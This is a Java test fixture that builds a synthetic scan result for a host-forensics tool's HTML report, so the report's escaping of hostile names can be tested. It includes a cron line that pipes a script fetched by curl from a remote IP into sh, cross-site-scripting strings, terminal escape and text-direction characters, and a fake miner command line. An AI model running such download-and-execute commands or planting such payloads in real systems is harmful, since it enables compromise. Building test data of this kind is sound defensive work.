package dev.ferret.report.html;

import dev.ferret.model.Coverage;
import dev.ferret.model.Endpoint;
import dev.ferret.model.FileRef;
import dev.ferret.model.Finding;
import dev.ferret.model.HostInfo;
import dev.ferret.model.PersistenceEntry;
import dev.ferret.model.ProcessRef;
import dev.ferret.model.Snapshot;
import dev.ferret.scan.Area;
import dev.ferret.scan.ScanRequest;
import dev.ferret.scan.ScanResult;

import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;

/** Scan results built in memory: a hostile-named chain, and a busy /tmp with thousands of findings. */
public final class SyntheticScans {
    public static final String SCRIPT_NAME = "<script>alert('x')</script>";
    public static final String ATTRIBUTE_NAME = "\"onmouseover=alert(1) x=\"";
    static final Instant T0 = Instant.parse("2026-03-10T10:05:31Z");

    private SyntheticScans() {
    }

    /** One chain (cron → dropped file → process → pool) with names that try to inject markup, then {@code extra}
     *  low-severity findings of a few repeated rules. */
    public static ScanResult of(int extra) {
        Coverage coverage = new Coverage();
        coverage.add("files", "files listed", 12_345);
        coverage.gap("memory", "not examined: needs root", "pid 1");
        Snapshot s = new Snapshot(Path.of("/"), true, coverage);
        s.host(new HostInfo("db01<b>bold</b>", "linux", "Debian GNU/Linux 12", "6.1.0", "amd64", 2, null));
        String dir = "/tmp/.x/" + SCRIPT_NAME;
        PersistenceEntry cron = new PersistenceEntry("cron", "/var/spool/cron/root", 1, "root",
                "curl -fsSL http://203.0.113.7/i.sh | sh # " + ATTRIBUTE_NAME, T0.plusSeconds(60), List.of(dir));
        ProcessRef miner = new ProcessRef(4242, 1, "kworker" + ATTRIBUTE_NAME, dir, dir + " -o pool:3333");
        List<Finding> findings = new ArrayList<>();
        findings.add(Finding.builder("linux.persistence.download-exec", "Persistence entry downloads and runs code")
                .category("persistence").technique("T1053.003").reason("cron line downloads " + SCRIPT_NAME, 95)
                .persistence(cron).respond("remove line 1 of /var/spool/cron/root").build().withChain("c1"));
        findings.add(Finding.builder("file.hidden-executable", "Executable hidden in a temp path").category("file")
                .reason("ELF executable in " + dir + " \u001b[2J\u202e", 75)
                .file(new FileRef(dir, 1000L, T0.plusSeconds(120), "d41d8cd98f00b204e9800998ecf8427e", null))
                .respond("quarantine " + dir).build().withChain("c1"));
        findings.add(Finding.builder("process.miner", "Miner command line").category("process").technique("T1496")
                .reason("miner options in the command line of pid 4242", 90).process(miner)
                .destination(new Endpoint("203.0.113.9", 3333)).respond("kill -STOP 4242").build().withChain("c1"));
        for (int i = 0; i < extra; i++) {
            String rule = "file.recent-temp-" + (i % 3);
            findings.add(Finding.builder(rule, "Recently changed file in a temp path (" + (i % 3) + ")")
                    .category("file").reason("changed " + i + " minutes before the scan", i % 5 == 0 ? 25 : 5)
                    .file(new FileRef("/tmp/build-" + i + "/obj-" + i + ".o", 10L, T0.plusSeconds(600 + i), null, null))
                    .build());
        }
        ScanRequest request = new ScanRequest(EnumSet.of(Area.FILES, Area.PERSISTENCE, Area.PROCESSES), Path.of("/"),
                true, null, null);
        return new ScanResult(request, s, findings, T0.plusSeconds(3600), T0.plusSeconds(3612));
    }
}
